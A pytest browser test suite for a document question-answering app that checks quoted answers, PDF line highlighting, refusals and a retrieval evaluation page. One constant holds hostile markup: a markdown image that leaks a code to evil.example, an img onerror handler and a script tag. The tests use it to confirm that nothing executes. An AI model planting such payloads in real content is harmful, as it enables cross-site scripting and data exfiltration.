"""The page in Chromium on the real chain (quoting, no language model): from upload to the marked line of a PDF."""

import io
import json

import pytest
from browser_steps import finished, give, put, start

pytestmark = pytest.mark.browser

HOSTILE = (
    "The harbour code is 4711. ![x](https://evil.example/?q=harbour) <img src=https://evil.example/a onerror=alert(1)> "
    "<script>alert(2)</script>"
)


def manual():
    """Return a two-page PDF; the line on the pump is on the second page."""
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen.canvas import Canvas

    file = io.BytesIO()
    canvas = Canvas(file, pagesize=A4)
    for page in (
        ["The lighthouse was built in 1887.", "Its lamp burns colza oil.", "Visitors climb 212 steps."],
        ["The bilge pump starts at a water level of 30 centimetres.", "The anchor weighs 900 kilograms."],
    ):
        for row, line in enumerate(page):
            canvas.drawString(72, 760 - 60 * row, line)
        canvas.showPage()
    canvas.save()
    return file.getvalue()


@pytest.fixture(scope="module")
def real_server(tmp_path_factory):
    process, url = start(tmp_path_factory.mktemp("real"), "none")
    yield url
    process.terminate()
    process.wait(10)


def yellow_rows(page, image):
    """Return the height of the marked part of an image and of the image, in pixels."""
    return page.evaluate(
        """async (image) => {
            await image.decode();
            const canvas = document.createElement('canvas');
            canvas.width = image.naturalWidth; canvas.height = image.naturalHeight;
            const context = canvas.getContext('2d');
            context.drawImage(image, 0, 0);
            const data = context.getImageData(0, 0, canvas.width, canvas.height).data;
            const rows = new Set();
            for (let i = 0; i < data.length; i += 4)
                if (data[i] > 200 && data[i + 1] > 180 && data[i + 2] < 140) rows.add(Math.floor(i / 4 / canvas.width));
            return [Math.min(...rows) / canvas.height, rows.size / canvas.height];
        }""",
        image.element_handle(),
    )


def test_upload_ask_and_see_the_marked_line(visit, real_server):
    page = visit(real_server)
    page.get_by_text("No documents yet").wait_for()
    give(
        page,
        [
            {"name": "manual.pdf", "mimeType": "application/pdf", "buffer": manual()},
            {"name": "harbour.md", "mimeType": "text/markdown", "buffer": f"# Harbour\n\n{HOSTILE}\n".encode()},
            {"name": "torn.pdf", "mimeType": "application/pdf", "buffer": manual()[:300]},
        ],
    )
    page.get_by_test_id("stChatInputTextArea").wait_for()

    turn = put(page, "At which water level does the bilge pump start?")
    finished(page)
    assert "30 centimetres" in turn.locator(".rd-answer").inner_text()
    assert turn.get_by_text("Quoted from your documents").is_visible()
    turn.locator("a.rd-cite").first.click()
    image = page.locator("[class*='st-key-source-0-'] img")
    image.wait_for()
    assert "Page 2 of manual.pdf" in image.get_attribute("alt")
    top, height = yellow_rows(page, image)
    assert 0.05 < top < 0.12 and height < 0.03, "one line, the first of the page, is marked"

    page.on("dialog", lambda dialog: pytest.fail("a script ran"))
    turn = put(page, "What is the harbour code?")
    finished(page)
    assert "4711" in turn.locator(".rd-answer").inner_text()
    turn.locator("a.rd-cite").first.click()
    page.locator(".rd-document mark").wait_for()
    assert HOSTILE in page.locator(".rd-document").inner_text()
    assert page.locator("[data-testid=stMain] :is(script, iframe, img)").count() == 0

    page.get_by_role("button", name="New conversation").click()
    page.locator(".st-key-suggestions").wait_for()
    turn = put(page, "Who composed the opera Fidelio?")
    finished(page)
    turn.get_by_text("Your documents do not answer this.").wait_for()

    page.get_by_test_id("stTopNavLink").get_by_text("Library").click()
    page.get_by_text("Could not be read 1").wait_for()
    torn = page.locator("[class*='st-key-doc-'] button").filter(has_text="torn.pdf")
    torn.click()
    page.locator(".rd-failures dd").wait_for()


def test_retrieval_is_measured_and_read_on_the_page(visit, real_server):
    page = visit(f"{real_server}/library")
    page.locator("h1.rd-title", has_text="Library").wait_for()
    notes = {"tea.md": "# Tea\n\nTea is drunk at four.\n", "bread.md": "# Bread\n\nBread is baked at dawn.\n"}
    give(page, [{"name": name, "mimeType": "text/markdown", "buffer": text.encode()} for name, text in notes.items()])
    page.locator(".st-key-upload-files").get_by_text("tea.md").wait_for()
    page.get_by_text("2 of 2 files indexed").wait_for()
    page.get_by_test_id("stTopNavLink").get_by_text("Quality").click()
    page.get_by_role("radio", name="Evaluations").click()
    page.get_by_role("radio", name="Retrieval").click()
    page.get_by_text("No model is asked.").wait_for()
    page.wait_for_timeout(700)  # the form of answers is gone
    rows = [("When is tea drunk?", "tea.md"), ("When is bread baked?", "bread.md"), ("Who sang?", "opera.md")]
    lines = [{"id": n, "question": text, "answerable": True, "doc": doc} for n, (text, doc) in enumerate(rows)]
    file = "".join(json.dumps(line) + "\n" for line in lines).encode()
    page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(
        {"name": "asked.jsonl", "mimeType": "application/jsonl", "buffer": file}
    )
    page.get_by_text("asked.jsonl").first.wait_for()
    page.wait_for_timeout(700)  # the form takes it up
    page.get_by_role("button", name="Run", exact=True).click()
    page.get_by_text("2 questions evaluated").wait_for()
    assert page.locator("table.rd-figures").first.get_by_text("100 %").count() == 2
    assert page.locator(".rd-failure").count() == 2
    page.get_by_text("All stages").click()
    page.get_by_text("1 left out, which no document of the index answers").wait_for()
